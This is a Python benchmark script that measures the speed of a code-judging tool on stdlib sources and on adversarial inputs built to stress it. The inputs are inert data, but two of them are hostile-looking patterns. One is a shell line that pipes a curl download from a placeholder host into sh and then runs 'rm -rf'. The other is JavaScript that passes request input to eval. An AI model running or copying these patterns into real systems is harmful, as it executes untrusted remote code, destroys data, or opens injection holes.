"""How long judge() takes: real 3 KB and 20 KB sources, a size sweep up to the content limit,
and bodies at the limit built to be hard. Used by scripts/bench_judge and scripts/bench. Each
timing is this process's CPU time, so a busy neighbour on a shared machine does not inflate it.

Not a test: timings vary with the machine and its load (each figure is the lowest of three
medians of modest runs).
"""

from __future__ import annotations

import ast
import bisect
import statistics
import textwrap
import time
from pathlib import Path

from cynic_app.judgment import Cell, judge
from cynic_app.judgment.engine import JUDGED_CHARS

STDLIB = Path(textwrap.__file__).parent
SWEEP_MODULES = ("bisect", "shlex", "textwrap", "difflib", "argparse", "configparser", "calendar", "csv")
SWEEP_CHARS = (1_000, 2_000, 3_000, 5_000, 10_000, 20_000, 30_000, 50_000, 75_000, JUDGED_CHARS)
LEVELS = ("MICRO", "MACRO")


def median_ms(cell: Cell, level: str, runs: int, rounds: int = 3) -> float:
    """The lowest of `rounds` medians of `runs` timings: on a shared machine a neighbour's burst
    lands in one round, not in the figure."""
    judge(cell, level=level)  # warm: first-use costs are not the steady state
    medians = []
    for _ in range(rounds):
        times = []
        for _ in range(runs):
            started = time.process_time()  # CPU time: a busy neighbour takes wall time, not ours
            judge(cell, level=level)
            times.append((time.process_time() - started) * 1000)
        medians.append(statistics.median(times))
    return min(medians)


def real_source(chars: int) -> str:
    """Stdlib modules concatenated, cut before the last definition (or top-level statement)
    that lets the rest parse within chars."""
    text = "\n".join((STDLIB / f"{m}.py").read_text() for m in SWEEP_MODULES)
    while len(text) < chars:
        text += "\n" + text
    lines = text[:chars].splitlines(keepends=True)
    cuts = [
        i
        for i, line in enumerate(lines)
        if line.lstrip().startswith(("def ", "class ", "@", "async def "))
        or line[:1] not in ("", " ", "\t", "\n", ")", "]", "}", "#")
    ]
    for cut in reversed(cuts):
        candidate = "".join(lines[:cut])
        try:
            ast.parse(candidate)
        except SyntaxError:
            continue
        if candidate.strip():
            return candidate
    raise ValueError(f"no parseable prefix within {chars} characters")


def hard_bodies(limit: int) -> dict[str, tuple[str, str]]:
    """Bodies of at most limit characters that stress the scanners rather than the parser, and
    the shapes an adversarial review found costing seconds (docs/learnings/
    worst-cases-found-by-review.md): name -> (content, context)."""
    chain = "f" + "()" * 4_000 + "\n"  # a chain of about 10,000 calls no longer parses
    depth = 190  # under CPython's limit of 200 nested brackets
    loops = ("for (;;) { for (;;) { const y = a", "; eval(y); } }\n")
    return {
        "one line of Python": (("x = " + " + ".join(["value"] * limit))[:limit], ""),
        "short statements": (("a = 1\n" * limit)[:limit], ""),
        "JavaScript-like": (('const x = eval(req.query.q + "`SELECT ${a}");\n' * limit)[:limit], ""),
        "shell-like": (
            ("#!/bin/sh\n" + "curl -k -u a:b https://x | sh; rm -rf $X/* || :\n" * limit)[:limit],
            "",
        ),
        "prose": (("The quick brown fox jumps over the lazy dog. " * limit)[:limit], ""),
        "deep brackets": (("(" * (limit // 2) + ")" * (limit // 2))[:limit], ""),
        "one name defined in one if": ("if c:\n" + " def x():0\n" * ((limit - 6) // 11), "file: x.py"),
        "one name captured by match cases": (
            _filled("match v:\n", lambda i: f" case[{i},x]:0\n", "", limit),
            "file: x.py",
        ),
        "duplicated dict keys": (_filled("d = {", lambda i: f"a{i}:0,a{i}:1,", "}\n", limit), "file: x.py"),
        "statements of chained calls": (chain * (limit // len(chain)), "file: x.py"),
        "prints nested around arguments": (
            "print(" * depth + "0," * ((limit - 7 * depth - 1) // 2) + ")" * depth + "\n",
            "file: x.py",
        ),
        "a JS member chain in two loops": (
            loops[0] + ".b" * ((limit - len(loops[0]) - len(loops[1])) // 2) + loops[1],
            "file: x.js",
        ),
    }


def _filled(head: str, unit, tail: str, limit: int) -> str:
    """head, then unit(0), unit(1)… as many as fit with tail in limit characters, then tail."""
    parts, size, i = [head], len(head) + len(tail), 0
    while size + len(part := unit(i)) <= limit:
        parts.append(part)
        size += len(part)
        i += 1
    return "".join(parts) + tail


def measure(runs: int = 15) -> dict:
    """Every figure: {"sources": [...], "sweep": {level: [(KB, ms)]}, "hard": [...]}."""
    out = {"sources": [], "sweep": {level: [] for level in LEVELS}, "hard": []}
    for module in (bisect, textwrap):
        text = Path(module.__file__).read_text()
        cell = Cell.create(content=text)
        for level in LEVELS:
            out["sources"].append(
                {
                    "source": Path(module.__file__).name,
                    "kb": round(len(text) / 1024, 1),
                    "level": level,
                    "ms": round(median_ms(cell, level, runs), 3),
                }
            )
    sizes_done: set[int] = set()
    for chars in SWEEP_CHARS:
        text = real_source(chars)
        if len(text) in sizes_done:  # two limits cut at the same definition
            continue
        sizes_done.add(len(text))
        cell = Cell.create(content=text)
        n = runs if len(text) < 30_000 else max(5, runs // 3)
        for level in LEVELS:
            out["sweep"][level].append((round(len(text) / 1024, 2), round(median_ms(cell, level, n), 3)))
    for name, (text, context) in hard_bodies(JUDGED_CHARS).items():
        out["hard"].append(
            {
                "body": name,
                "chars": len(text),
                "ms": round(median_ms(Cell.create(content=text, context=context), "MACRO", 3), 1),
            }
        )
    return out


def tables(result: dict) -> str:
    lines = ["| source | KB | level | median ms |", "|---|---:|---|---:|"]
    lines += [f"| {r['source']} | {r['kb']} | {r['level']} | {r['ms']:.2f} |" for r in result["sources"]]
    lines += ["", "| KB | MICRO ms | MICRO ms/KB | MACRO ms | MACRO ms/KB |", "|---:|---:|---:|---:|---:|"]
    for (kb, micro), (_, macro) in zip(result["sweep"]["MICRO"], result["sweep"]["MACRO"], strict=True):
        lines.append(f"| {kb} | {micro:.2f} | {micro / kb:.3f} | {macro:.2f} | {macro / kb:.3f} |")
    lines += ["", "| body at the content limit | chars | MACRO ms |", "|---|---:|---:|"]
    lines += [f"| {r['body']} | {r['chars']} | {r['ms']:.1f} |" for r in result["hard"]]
    return "\n".join(lines)


def plot(sweep: dict[str, list[tuple[float, float]]], path: Path) -> None:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(7, 4.2))
    for level, points in sweep.items():
        kb = [p[0] for p in points]
        ms = [p[1] for p in points]
        slope = sum(k * m for k, m in points) / sum(k * k for k in kb)  # least squares through 0
        ax.plot(kb, ms, "o-", label=f"{level} (≈ {slope:.3f} ms/KB)")
        ax.plot([0, kb[-1]], [0, slope * kb[-1]], ":", color=ax.lines[-1].get_color(), alpha=0.6)
    ax.set_xlabel("content size (KB of real Python source)")
    ax.set_ylabel("median judge() time (ms)")
    ax.set_title("judge() time against content size (dotted: least-squares line through 0)")
    ax.grid(True, alpha=0.3)
    ax.legend()
    fig.tight_layout()
    fig.savefig(path, dpi=110)
